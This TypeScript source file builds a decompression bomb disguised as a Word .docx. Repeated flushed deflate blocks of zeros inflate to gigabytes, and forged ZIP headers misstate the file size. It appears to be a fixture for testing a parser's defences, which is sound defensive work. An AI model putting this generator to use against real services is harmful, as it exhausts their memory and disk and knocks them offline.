/**
 * A .docx whose word/document.xml inflates to `gigabytes` GB of zeros while the archive stays a few MB:
 * one fully flushed deflate block of zeros is repeated (blocks after a full flush are independent), then a
 * final empty block closes the stream. The local and central headers declare `declaredSize` bytes, so a
 * reader that trusts them is fooled; the CRC is left 0 because nothing should ever inflate it all.
 */
import { deflateRawSync, constants } from 'zlib';

function header(signature: number, fields: [number, 2 | 4][]): Buffer {
  const size = 4 + fields.reduce((n, [, bytes]) => n + bytes, 0);
  const out = Buffer.alloc(size);
  out.writeUInt32LE(signature, 0);
  let at = 4;
  for (const [value, bytes] of fields) {
    if (bytes === 2) out.writeUInt16LE(value, at);
    else out.writeUInt32LE(value, at);
    at += bytes;
  }
  return out;
}

export function zipBomb(gigabytes: number, declaredSize: number): Buffer {
  const chunk = deflateRawSync(Buffer.alloc(1 << 20), { finishFlush: constants.Z_FULL_FLUSH });
  const finalBlock = Buffer.from([0x03, 0x00]); // final fixed-Huffman block holding only end-of-block
  const data = Buffer.concat([...Array.from({ length: gigabytes * 1024 }, () => chunk), finalBlock]);
  const name = Buffer.from('word/document.xml');
  const local = header(0x04034b50, [
    [20, 2],
    [0, 2],
    [8, 2],
    [0, 2],
    [0, 2],
    [0, 4],
    [data.length, 4],
    [declaredSize, 4],
    [name.length, 2],
    [0, 2],
  ]);
  const central = header(0x02014b50, [
    [20, 2],
    [20, 2],
    [0, 2],
    [8, 2],
    [0, 2],
    [0, 2],
    [0, 4],
    [data.length, 4],
    [declaredSize, 4],
    [name.length, 2],
    [0, 2],
    [0, 2],
    [0, 2],
    [0, 2],
    [0, 4],
    [0, 4],
  ]);
  const centralStart = local.length + name.length + data.length;
  const centralSize = central.length + name.length;
  const end = header(0x06054b50, [
    [0, 2],
    [0, 2],
    [1, 2],
    [1, 2],
    [centralSize, 4],
    [centralStart, 4],
    [0, 2],
  ]);
  return Buffer.concat([local, name, data, central, name, end]);
}
